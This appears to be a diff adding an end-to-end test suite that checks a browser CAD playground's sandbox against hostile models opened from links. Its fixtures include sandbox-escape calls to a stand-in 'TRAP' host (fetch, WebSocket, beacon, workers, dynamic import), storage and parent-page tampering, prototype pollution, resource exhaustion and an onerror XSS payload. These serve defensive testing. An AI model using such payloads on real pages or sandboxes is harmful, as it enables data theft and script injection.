@@ -1,0 +1,135 @@
+import { expect, test } from '../../support/test';
+import { goodModel, openLink, outcome, run, startTrap } from '../../support/playground';
+
+/**
+ * Models that mean harm, as they would come with a link. Each must end in an error or a harmless result, reach nothing,
+ * and leave a page in which the next model runs. `TRAP` stands for the address of a server that nothing may reach.
+ */
+const reachesOut: Readonly<Record<string, string>> = {
+  fetch: 'await fetch("TRAP/fetch");',
+  XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", "TRAP/xhr", false); x.send();',
+  WebSocket: 'new WebSocket("TRAP".replace("http", "ws")); await wait();',
+  EventSource: 'new EventSource("TRAP/events"); await wait();',
+  importScripts: 'importScripts("TRAP/script.js");',
+  'dynamic import': 'await new Function("return import(\\"TRAP/module.js\\")")();',
+  'dynamic import behind a constructor':
+    'await (async () => {}).constructor("return import(\\"TRAP/module.js\\")")();',
+  beacon: 'navigator.sendBeacon("TRAP/beacon");',
+  'nested worker':
+    'const blob = new Blob(["fetch(`TRAP/nested`)"]); new Worker(URL.createObjectURL(blob)); await wait();',
+  'shared worker': 'new SharedWorker("TRAP/shared.js"); await wait();',
+  localStorage: 'localStorage.setItem("stolen", "1");',
+  indexedDB: 'indexedDB.open("stolen");',
+  caches: 'await caches.open("stolen");',
+  'the document': 'document.title = "stolen";',
+  'the parent': 'parent.document.title = "stolen"; top.location = "TRAP/top";',
+  'messages to the page': 'postMessage({ type: "result", id: 1, result: {} }, "*");',
+  'messages to other tabs': 'new BroadcastChannel("site").postMessage("stolen");',
+  'the end of the worker': 'close(); await wait();',
+};
+
+const misbehaves: Readonly<Record<string, string>> = {
+  'a stack without end': 'const f = () => f() + 1; f();',
+  'a string without end': 'let s = "x"; for (;;) s += s;',
+  'an array without end': 'new Float64Array(2 ** 40);',
+  'a promise that rejects later': 'Promise.reject(new Error("later")); throw new Error("now");',
+  'a changed stack trace':
+    'Error.prepareStackTrace = () => { throw 1; }; Error.stackTraceLimit = Infinity; undefined.x;',
+  'a result that is not one': 'return { shape: new Proxy({}, { get() { throw 1; } }) };',
+};
+
+const withTrap = (body: string, trap: string) => `import { makeBaseBox } from "replicad";
+const wait = () => new Promise((done) => setTimeout(done, 700));
+export default async function main() {
+  ${body.replaceAll('TRAP', trap)}
+  return makeBaseBox(10, 10, 10);
+}`;
+
+test.describe('a hostile model', () => {
+  test.setTimeout(120_000);
+
+  test('reaches nothing, whichever door it tries', async ({ page }) => {
+    test.setTimeout(400_000);
+    const trap = await startTrap();
+    for (const [door, body] of Object.entries(reachesOut)) {
+      await test.step(door, async () => {
+        await openLink(page, withTrap(body, trap.url));
+        await run(page);
+        expect(trap.hits(), door).toBe(0);
+        expect(await page.title(), door).toContain('Playground');
+        expect(await page.evaluate(() => localStorage.getItem('stolen')), door).toBeNull();
+      });
+    }
+    await openLink(page, goodModel);
+    expect(await run(page)).toContain('The model was built');
+    trap.stop();
+  });
+
+  for (const [what, body] of Object.entries(misbehaves)) {
+    test(`that returns ${what} ends in words, and the next model runs`, async ({ page }) => {
+      await openLink(page, withTrap(body, ''));
+      const said = await run(page);
+      expect(said).not.toBe('');
+      expect(said).not.toContain('The model was built');
+      await openLink(page, goodModel);
+      expect(await run(page)).toContain('The model was built');
+    });
+  }
+
+  test('does not run before the reader presses Run', async ({ page }) => {
+    const trap = await startTrap();
+    await openLink(page, withTrap('await fetch("TRAP/early");', trap.url));
+    await page.waitForTimeout(1500);
+    await expect(page.getByText('From a link, not yet run')).toBeVisible();
+    await expect(page.locator('iframe')).toHaveCount(0);
+    expect(trap.hits()).toBe(0);
+    trap.stop();
+  });
+
+  test('in an endless loop is ended by Stop, while the page goes on', async ({ page }) => {
+    await openLink(page, withTrap('for (;;);', ''));
+    await page.getByRole('button', { name: 'Run', exact: true }).click();
+    await page.getByText('Building the model').waitFor({ timeout: 60_000 });
+    await page.getByRole('button', { name: 'Stop' }).click();
+    expect(await outcome(page, 3000)).toContain('Stopped');
+    await openLink(page, goodModel);
+    expect(await run(page)).toContain('The model was built');
+  });
+
+  test('that never answers is ended after 20 seconds', async ({ page }) => {
+    await openLink(page, withTrap('await new Promise(() => {});', ''));
+    expect(await run(page)).toContain('stopped after 20 seconds');
+  });
+
+  test('cannot change the models that run after it', async ({ page }) => {
+    const pollution = `Object.prototype.polluted = "yes";
+      Array.prototype.map = () => { throw new Error("polluted"); };
+      Object.defineProperty(Function.prototype, "stuck", { value: 1 });
+      const { Shape } = await import("replicad").catch(() => ({}));`;
+    await openLink(page, withTrap(pollution, ''));
+    await run(page);
+    await openLink(
+      page,
+      `${goodModel}\nif (({}).polluted || (() => {}).stuck || [1].map((x) => x)[0] !== 1) throw new Error("changed");`,
+    );
+    expect(await run(page)).toContain('The model was built');
+  });
+
+  test('cannot put markup into the page by its names, errors or output', async ({ page }) => {
+    const markup = '<img src=x onerror="document.title=\'stolen\'">';
+    await openLink(
+      page,
+      `import { makeBaseBox } from "replicad";
+export const defaultParams = { "${markup.replaceAll('"', '\\"')}": 1 };
+export default () => {
+  console.log(${JSON.stringify(markup)});
+  return { shape: makeBaseBox(5, 5, 5), name: ${JSON.stringify(markup)}, color: "url(javascript:0)" };
+};`,
+    );
+    await run(page);
+    await openLink(page, withTrap(`throw new Error(${JSON.stringify(markup)});`, ''));
+    expect(await run(page)).toContain('<img src=x');
+    await expect(page.locator('img[src="x"]')).toHaveCount(0);
+    expect(await page.title()).toContain('Playground');
+  });
+});
